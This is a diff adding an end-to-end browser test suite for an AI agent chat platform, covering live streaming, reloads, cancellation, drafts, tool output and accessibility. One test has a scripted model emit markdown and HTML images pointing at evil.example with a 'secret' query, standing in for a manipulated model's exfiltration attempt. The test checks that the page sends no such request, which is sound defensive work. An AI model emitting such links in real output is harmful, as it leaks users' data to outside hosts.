@@ -1,0 +1,248 @@
+import { AxeBuilder } from '@axe-core/playwright'
+import pg from 'pg'
+import type { Browser, Page, Request } from 'playwright-core'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { newPerson, signUp, workspaceIdOf } from './support/account.ts'
+import { type RunningApp, startApp } from './support/app.ts'
+import { expectNoSidewaysScroll, launchBrowser, openPage, phone } from './support/browser.ts'
+
+let app: RunningApp
+let browser: Browser
+let page: Page
+let errors: string[]
+
+beforeAll(async () => {
+  app = await startApp()
+  browser = await launchBrowser()
+})
+afterAll(async () => {
+  await browser?.close()
+  await app?.stop()
+})
+beforeEach(async () => {
+  ;({ page, errors } = await openPage(browser, app.url))
+  await signUp(page, newPerson())
+})
+afterEach(async () => {
+  await page.context().close()
+  expect(errors, 'uncaught errors of the page').toEqual([])
+})
+
+/** Speaks words slowly enough to look in between. */
+const slowly = (words: number) => `/slow 40\n/tokens ${words}`
+
+async function startThread(text: string): Promise<void> {
+  await page.getByLabel(/^Task for/).fill(text)
+  await page.getByRole('button', { name: 'Send' }).click()
+  await page.waitForURL(/\/threads\/[0-9a-f-]{36}/)
+}
+
+async function send(text: string, on = page): Promise<void> {
+  await on.getByLabel(/^Message to/).fill(text)
+  await on.keyboard.press('Enter')
+}
+
+const run = (on: Page, status: string) => on.locator(`[data-run-status="${status}"]`)
+const spoken = (on: Page) => on.locator('[data-part="text"]')
+
+async function untilOver(on = page, count = 1): Promise<void> {
+  await expect.poll(() => run(on, 'succeeded').count(), { timeout: 60_000 }).toBe(count)
+  await expect.poll(() => run(on, 'running').count()).toBe(0)
+}
+
+/** Everything that a page shows of the thread. */
+function shown(on: Page): Promise<string[]> {
+  return on.locator('section[aria-label="Messages"] article').allTextContents()
+}
+
+/** The same, as the server draws it from the database alone. */
+async function stored(on: Page): Promise<string[]> {
+  await on.reload()
+  await on.locator('section[aria-label="Messages"] article').first().waitFor()
+  return shown(on)
+}
+
+/** Somebody else of the same organisation, signed in, with a browser of their own. */
+async function openColleague(): Promise<Page> {
+  const other = await openPage(browser, app.url)
+  const colleague = newPerson('Grace Hopper')
+  await signUp(other.page, colleague)
+  const client = new pg.Client({ connectionString: app.env.PLATFORM_DATABASE_URL })
+  await client.connect()
+  await client.query(
+    `insert into memberships (tenant_id, user_id, role)
+     select w.tenant_id, u.id, 'member' from workspaces w, users u where w.id = $1 and u.email = $2`,
+    [workspaceIdOf(page), colleague.email],
+  )
+  await client.end()
+  return other.page
+}
+
+describe('a run, watched', () => {
+  test('a reload and a second tab in the middle of it show the same, with nothing missing or doubled', async () => {
+    await startThread(`/think Let me see.\n${slowly(250)}`)
+    await spoken(page).first().waitFor()
+    await page.reload()
+    const second = await page.context().newPage()
+    await second.goto(page.url())
+    await run(second, 'running').waitFor()
+    await Promise.all([untilOver(page), untilOver(second)])
+    const [here, there] = [await shown(page), await shown(second)]
+    expect(there).toEqual(here)
+    expect(await stored(page)).toEqual(here)
+    expect((await spoken(page).first().textContent())?.split(' ')).toHaveLength(250)
+  })
+
+  test('a colleague sees it live, without reloading', async () => {
+    const colleague = await openColleague()
+    await startThread('/say Hello.')
+    await untilOver()
+    await colleague.goto(page.url())
+    await run(colleague, 'succeeded').waitFor()
+    await send(slowly(40))
+    await run(colleague, 'running').waitFor()
+    await spoken(colleague).nth(1).waitFor()
+    await Promise.all([untilOver(page, 2), untilOver(colleague, 2)])
+    const words = (on: Page) => on.locator('[data-run-id]').allTextContents()
+    expect(await words(colleague)).toEqual(await words(page))
+    await colleague.context().close()
+  })
+
+  test('all tabs of a browser share one event stream, and the others go on when its tab is closed', async () => {
+    const asked = new Set<Request>()
+    const over = (request: Request) => asked.delete(request)
+    page
+      .context()
+      .on('request', (request: Request) => void (request.url().endsWith('/api/stream') && asked.add(request)))
+    page.context().on('requestfinished', over).on('requestfailed', over)
+    const open = () => [...asked].filter((request) => !request.frame().page().isClosed())
+    await startThread('/say Hello.')
+    await untilOver()
+    const others = await Promise.all([1, 2].map(() => page.context().newPage()))
+    for (const other of others) {
+      await other.goto(page.url())
+      await run(other, 'succeeded').waitFor()
+    }
+    await send(slowly(60))
+    await Promise.all(others.map((other) => run(other, 'running').waitFor()))
+    await expect.poll(() => open().length).toBe(1)
+    await page.close()
+    await Promise.all(others.map((other) => untilOver(other, 2)))
+    expect(open()).toHaveLength(1)
+    const [one, two] = await Promise.all(others.map(shown))
+    expect(two).toEqual(one)
+    expect(await stored(others[0] as Page)).toEqual(one)
+  })
+
+  test('its worker is killed: another goes on, and the page ends with what the database holds', async () => {
+    await startThread(`write: a.txt <<< one\n/slow 40\n/tokens 120`)
+    await spoken(page).first().waitFor()
+    await app.killWorker()
+    await app.startWorker()
+    await untilOver()
+    const here = await shown(page)
+    expect(await stored(page)).toEqual(here)
+    expect((await spoken(page).last().textContent())?.trim().split(/\s+/).length).toBeGreaterThanOrEqual(120)
+  })
+})
+
+describe('what a person does', () => {
+  test('Escape stops a run within a second; it can be continued and retried', async () => {
+    await startThread('run: sleep 60')
+    await page.getByRole('region', { name: 'Run commands: Running' }).waitFor()
+    await page.keyboard.press('Escape')
+    // The promised deadline.
+    await run(page, 'cancelled').waitFor({ timeout: 2_000 })
+    expect(await stored(page)).toEqual(await shown(page))
+    await page.getByRole('button', { name: 'Continue' }).click()
+    await untilOver()
+    await page.getByRole('button', { name: 'Retry' }).click()
+    await page.getByRole('button', { name: 'Show 1 earlier' }).waitFor()
+    await page.keyboard.press('Escape')
+    await run(page, 'cancelled').waitFor()
+  })
+
+  test('a message is there at once, and waits its turn behind the one before', async () => {
+    await startThread(slowly(60))
+    await run(page, 'running').waitFor()
+    await send('/say second')
+    await page.getByText('Waits until the message before is answered').waitFor()
+    await untilOver(page, 2)
+    expect(await spoken(page).last().textContent()).toContain('second')
+  })
+
+  test('a message that does not get out stays, and is sent again once', async () => {
+    await startThread('/say Hello.')
+    await untilOver()
+    await page.route('**/messages', (route) => route.abort())
+    await send('/say again')
+    await page.getByText('The server cannot be reached').waitFor()
+    await page.unroute('**/messages')
+    await page.getByRole('button', { name: 'Send again' }).click()
+    await untilOver(page, 2)
+    expect(await stored(page)).toHaveLength(2)
+  })
+
+  test('a draft survives a reload; Shift and Enter begin a new line', async () => {
+    await startThread('/say Hello.')
+    await untilOver()
+    const field = page.getByLabel(/^Message to/)
+    await field.pressSequentially('one')
+    await page.keyboard.press('Shift+Enter')
+    await field.pressSequentially('two')
+    await page.reload()
+    await expect.poll(() => field.inputValue()).toBe('one\ntwo')
+    await page.keyboard.press('Tab')
+    await field.press('Enter')
+    await expect.poll(() => field.inputValue()).toBe('')
+    await untilOver(page, 2)
+    await page.reload()
+    expect(await field.inputValue()).toBe('')
+  })
+})
+
+describe('what it shows', () => {
+  test('tools with what they printed and changed, files, and what a talked-round model cannot do', async () => {
+    const foreign: string[] = []
+    page.on('request', (request) => {
+      if (!request.url().startsWith(app.url) && /^http/.test(request.url())) foreign.push(request.url())
+    })
+    await startThread(
+      [
+        'write: notes.md <<< one line',
+        'edit: notes.md <<< one ==> another',
+        'run: printf "\\033[31mred\\033[0m\\n"; exit 3',
+        '/say ![x](https://evil.example/?q=secret) <img src="https://evil.example/y.png">',
+      ].join('\n'),
+    )
+    await untilOver()
+    await page.getByRole('region', { name: 'Edit files: Done' }).getByText('another line').waitFor()
+    const terminal = page.getByRole('region', { name: 'Run commands: Done' })
+    await terminal.getByText('exit 3', { exact: true }).waitFor()
+    await terminal.getByRole('button').first().click()
+    await expect.poll(() => terminal.locator('pre').last().textContent()).toBe('red\n[exit code 3]')
+    await page.locator('header').getByRole('button', { name: 'Files' }).click()
+    await page.getByRole('complementary', { name: 'Files of the workspace' }).getByText('notes.md').waitFor()
+    expect(foreign).toEqual([])
+  })
+
+  test('a failure in the provider’s own words', async () => {
+    await startThread('/fail auth The key is not valid.')
+    await run(page, 'failed').waitFor()
+    await page.getByText('The key is not valid.').last().waitFor()
+  })
+
+  test('on a phone, in both themes, nothing sticks out and axe finds nothing', async () => {
+    await startThread('/think Hm.\nwrite: a.sh <<< echo hi\nrun: bash a.sh\n/say | a | b |\n/say `code` and **bold**')
+    await untilOver()
+    await page.setViewportSize(phone.viewport ?? { width: 375, height: 740 })
+    for (const colorScheme of ['light', 'dark'] as const) {
+      await page.emulateMedia({ colorScheme })
+      await page.waitForFunction((theme) => document.documentElement.classList.contains(theme), colorScheme)
+      await page.waitForFunction(() => document.getAnimations().every(({ playState }) => playState !== 'running'))
+      const { violations } = await new AxeBuilder({ page }).analyze()
+      expect(violations.flatMap(({ id, nodes }) => nodes.map(({ html }) => `${id}: ${html}`))).toEqual([])
+      await expectNoSidewaysScroll(page)
+    }
+  })
+})
